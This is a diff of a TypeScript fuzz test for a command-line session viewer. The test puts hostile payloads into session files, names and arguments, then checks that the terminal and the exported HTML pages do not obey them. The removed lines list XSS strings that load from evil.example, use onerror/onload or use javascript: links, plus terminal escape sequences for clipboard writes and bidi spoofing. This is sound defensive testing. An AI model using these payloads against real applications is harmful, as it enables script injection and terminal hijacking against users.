@@ -1,48 +1,21 @@
 import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { expect } from "vitest";
-import { attack } from "../support/attack.ts";
+import { type AttackCase, attack } from "../support/attack.ts";
 import { fixtureDir } from "../support/fixture.ts";
 import { changedLines } from "../support/hostile-session.ts";
+import { faultsIn } from "../support/page.ts";
+import { foreignIn, PAYLOADS } from "../support/payloads.ts";
 import { Sandbox } from "../support/sandbox.ts";
 import { runSoundly } from "../support/sound-output.ts";
 
-/** What a terminal obeys: none of them may leave the program as it is. */
-const FOR_TERMINALS = [
-	"\x1b]52;c;cHduZWQ=\x07",
-	"\x9d52;c;cHduZWQ=\x9c",
-	"\x1b]0;owned\x07",
-	"\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
-	"\x1bPowned\x1b\\",
-	"\x1b_owned\x1b\\",
-	"\x1b[7;77H",
-	"\x9b7;77H",
-	"\x1b[?1049l\x1b[?1003h",
-	"\x1b[5i\x1b[4i",
-	"\x1bc\x1b#8",
-	"\u202egnp.exe\u202c",
-	"\u2066hidden\u2069",
-];
+const FIXTURES = ["every-entry-type", "branches", "conversation", "names", "orphaned-results", "v1", "pi-1.5.2"];
 
-/** What a page would obey. */
-const FOR_PAGES = [
-	'<script>document.title="obeyed"</script>',
-	"</pre></code></article><script src=http://evil.example/x></script>",
-	'"><img src=http://evil.example/i onerror="alert(1)">',
-	"'><svg onload=alert(1)>",
-	"<iframe src=http://evil.example></iframe>",
-	"[click](javascript:alert(1))",
-	"![x](http://evil.example/i.png)",
-];
-
-/** What splits lines and columns, or is of no width. */
-const ODD = ["\r", "\t", "\n", "\u2028", "\0", "\x7f", "\u200b", "\ufeff", "\u0301".repeat(50), "\ud800", "\u{e0041}"];
-
-const FIXTURES = ["every-entry-type", "branches", "conversation", "names", "orphaned-results", "v1"];
-
+/** `S` stands for the path of a session, `E` for an entry of it, `P` for a payload. */
 const COMMANDS: readonly (readonly string[])[] = [
 	["list"],
 	["list", "--json"],
+	["list", "P"],
 	["stats"],
 	["stats", "--json"],
 	["show", "S"],
@@ -50,78 +23,164 @@ const COMMANDS: readonly (readonly string[])[] = [
 	["show", "S", "--tree"],
 	["show", "S", "--json"],
 	["show", "S", "--markdown"],
+	["show", "S#E"],
+	["show", "P"],
+	["path", "P"],
 	["standup"],
 	["doctor"],
+	["doctor", "S"],
 	["search", "a"],
 	["search", "a", "--json"],
+	["search", "P"],
 	["prompts"],
 	["prompts", "--json"],
 	["commands"],
 	["files"],
+	["files", "S"],
+	["blame", "P"],
 	["tidy"],
-	["rename", "S", "x", "--yes"],
+	["rename", "S", "xPy", "--yes"],
+	["label", "S#E", "xPy", "--yes"],
+	["branch", "S#E", "--yes"],
 	["history"],
+	["history", "--json"],
 	["delete", "S", "--yes"],
 	["restore"],
 	["undo", "--yes"],
+	["export", "S", "--yes"],
+	["P"],
+	["list", "--P"],
+	["completions", "P"],
+	["help", "P"],
 ];
 
-/** Tags of our own pages: the script, once, and a picture that keeps the browser from asking for one. */
-const OWN_TAGS: ReadonlySet<string> = new Set(["<script>", '<link rel="icon" href="data:,">']);
+/** What is pressed for each page and each box, in the list. */
+const PAGES: readonly (readonly string[])[] = [
+	["down"],
+	["right", "\x01", "alt+u", "end", "home"],
+	["right", "right", "pageDown", "end", "t", "h", "ctrl+f"],
+	["right", "alt+y", "down", "space", "down", "space", "enter"],
+	["right", "alt+l"],
+	["right", "f8"],
+	["ctrl+r"],
+	["ctrl+d"],
+	["alt+g"],
+	["alt+n"],
+	["alt+o"],
+	["alt+w"],
+	["alt+k", "enter"],
+	["alt+c"],
+	["\x1b[21~"],
+	["\x1bOR"],
+	["ctrl+t", "down", "end"],
+	["ctrl+k"],
+	["ctrl+g"],
+	["ctrl+p"],
+	["alt+t"],
+	["alt+u", "alt+s"],
+	["a"],
+	["a", "enter"],
+];
 
-/** The tags of a page that run something or load something from elsewhere, its own script left out. */
-function aliveTags(page: string): string[] {
-	const tags = [...page.matchAll(/<[a-z!][^<>]*>/gi)].map(([tag]) => tag);
-	const scripts = tags.filter((tag) => /^<script\b/i.test(tag));
-	const others = tags.filter((tag) => {
-		if (OWN_TAGS.has(tag)) return false;
-		if (/^<(?:script|iframe|object|embed|base|link|svg)\b/i.test(tag)) return true;
-		const names = tag.replace(/"[^"]*"/g, '""');
-		return /\son\w+\s*=/i.test(names) || /\ssrc="(?!data:image\/)|="\s*javascript:/i.test(tag);
-	});
-	return scripts.length > 1 ? [...scripts, ...others] : others;
-}
+/** Sizes of the terminal, one after the other. */
+const SIZES = [
+	[160, 45],
+	[80, 24],
+	[120, 40],
+	[40, 10],
+] as const;
 
-attack("payloads in any field reach no terminal and no page", 1, async ({ random, pick, below }) => {
+/** Commands, and pages of the browser, of one case. */
+const [AT_ONCE, PAGES_AT_ONCE] = [8, 3];
+
+attack("payloads in any field and argument: nothing that a shell prints, and no page, obeys them", 1, (one) => {
 	const sandbox = new Sandbox();
 	try {
-		const directory = join(sandbox.agentDir, "sessions", "--p--");
-		mkdirSync(directory, { recursive: true });
-		const payload = () => pick(pick([FOR_TERMINALS, FOR_PAGES, ODD]));
-		const paths = [1, 2, 3].map((number) => {
-			const content = changedLines(join(fixtureDir, `${pick(FIXTURES)}.jsonl`), (text) => {
-				const at = below(text.length + 1);
-				return random() < 0.5 ? text : text.slice(0, at) + payload() + text.slice(at);
-			});
-			const path = join(
-				directory,
-				`${number}${payload()
-					.replace(/[/\0\ud800]/g, "")
-					.slice(0, 40)}.jsonl`,
-			);
-			writeFileSync(path, content);
-			return path;
-		});
-		const path = pick(paths);
-		for (const args of COMMANDS) {
-			runSoundly(
-				sandbox,
-				args.map((arg) => (arg === "S" ? path : arg)),
-			);
-		}
+		const paths = threeHostile(sandbox, one);
+		const path = one.pick(paths);
+		const ids = [...readFileSync(path, "utf8").matchAll(/"id":"([\w-]+)"/g)].flatMap(([, id]) => id ?? []);
+		const filled = (text: string): string =>
+			text
+				.replace(/^S(?=#|$)/, () => path)
+				.replace(/#E$/, () => `#${ids.length === 0 ? "none" : one.pick(ids)}`)
+				.replace("P", () => payloadOf(one).replaceAll("\0", "").toWellFormed().slice(0, 500));
+		for (let count = 0; count < AT_ONCE; count++) runSoundly(sandbox, one.pick(COMMANDS).map(filled));
 		const page = join(sandbox.home, "page.html");
-		runSoundly(sandbox, ["export", path, "--all", "--out", page]);
-		expect(aliveTags(readFileSync(page, "utf8"))).toEqual([]);
-
-		const terminal = sandbox.start([], { columns: 120, rows: 40 });
-		await terminal.waitFor(/\d\/3/);
-		for (const keys of [["down"], ["right"], ["home", "pageDown", "end"], ["ctrl+f"], ["pageUp"], ["escape"], ["left"]])
-			terminal.press(...keys);
-		terminal.press("ctrl+c");
-		await terminal.exit();
-		for (const one of FOR_TERMINALS) expect(terminal.written.includes(one), JSON.stringify(one)).toBe(false);
-		return COMMANDS.length + 2;
+		const source = paths.find((from) => runSoundly(sandbox, ["export", from, "--all", "--out", page]).code === 0);
+		if (source !== undefined) expect(faultsIn(readFileSync(page, "utf8"))).toEqual([]);
+		return AT_ONCE + 1;
 	} finally {
 		sandbox.remove();
 	}
 });
+
+attack("payloads in any field: no page and no box of the browser obeys them, or breaks", 1, async (one) => {
+	const sandbox = new Sandbox();
+	try {
+		threeHostile(sandbox, one);
+		for (let shown = 0; shown < PAGES_AT_ONCE; shown++) {
+			const [columns, rows] = one.pick(SIZES);
+			const terminal = sandbox.start([], { columns, rows });
+			await terminal.waitFor(/3 sessions|\d\/3/);
+			const keys = one.pick(PAGES);
+			if (one.random() < 0.5) terminal.press("down");
+			terminal.press(...keys);
+			// A new size draws everything anew, after what was pressed.
+			const drawn = terminal.written.length;
+			const [width, height] = one.pick(SIZES);
+			terminal.resize(width, height + 1 + one.below(3));
+			await terminal.waitFor(() => terminal.written.length > drawn);
+			expect(foreignIn(terminal.written), keys.join(" ")).toBeUndefined();
+			terminal.press("down", "pageDown");
+			terminal.resize(width, height + 5);
+			const drawnAgain = terminal.written.length;
+			await terminal.waitFor(() => terminal.written.length > drawnAgain);
+			expect(foreignIn(terminal.written), keys.join(" ")).toBeUndefined();
+			expect(terminal.hasExited).toBe(false);
+			terminal.kill();
+			await terminal.exit();
+		}
+		return PAGES_AT_ONCE;
+	} finally {
+		sandbox.remove();
+	}
+});
+
+function payloadOf({ pick }: AttackCase): string {
+	return pick(pick(PAYLOADS));
+}
+
+/** The paths of three sessions that hold payloads. */
+function threeHostile(sandbox: Sandbox, one: AttackCase): string[] {
+	return [1, 2, 3].map((number) => writeHostile(sandbox, number, () => payloadOf(one), one));
+}
+
+/** Fields that make an entry what it is: now and then a payload is put into them too. */
+const STRUCTURE =
+	/"(type|timestamp|role|stopReason|toolCallId|id|parentId|customType|cwd|version|thinkingLevel)":"([^"\\]*)"/g;
+
+/** A session with payloads in half of its fields, in its file's name, and now and then in its directory's. */
+function writeHostile(sandbox: Sandbox, number: number, payload: () => string, { random, below }: AttackCase): string {
+	const inName = (text: string): string =>
+		text
+			.toWellFormed()
+			.replace(/[/\0\ufffd]/g, "")
+			.slice(0, 40);
+	const directory = join(sandbox.agentDir, "sessions", random() < 0.3 ? `--${inName(payload())}--` : "--p--");
+	mkdirSync(directory, { recursive: true });
+	const fixture = join(fixtureDir, `${FIXTURES[below(FIXTURES.length)]}.jsonl`);
+	const lines = changedLines(fixture, (text) => {
+		const at = below(text.length + 1);
+		return random() < 0.5 ? text : text.slice(0, at) + payload() + text.slice(at);
+	}).split("\n");
+	const changed = lines.map((line, index) =>
+		line.replace(STRUCTURE, (whole, name: string, value: string) =>
+			(index === 0 && name === "type") || random() < 0.95
+				? whole
+				: `"${name}":${JSON.stringify(value + payload()).replaceAll("\u2028", "\\u2028")}`,
+		),
+	);
+	const path = join(directory, `${number}${inName(payload())}.jsonl`);
+	writeFileSync(path, changed.join("\n"));
+	return path;
+}
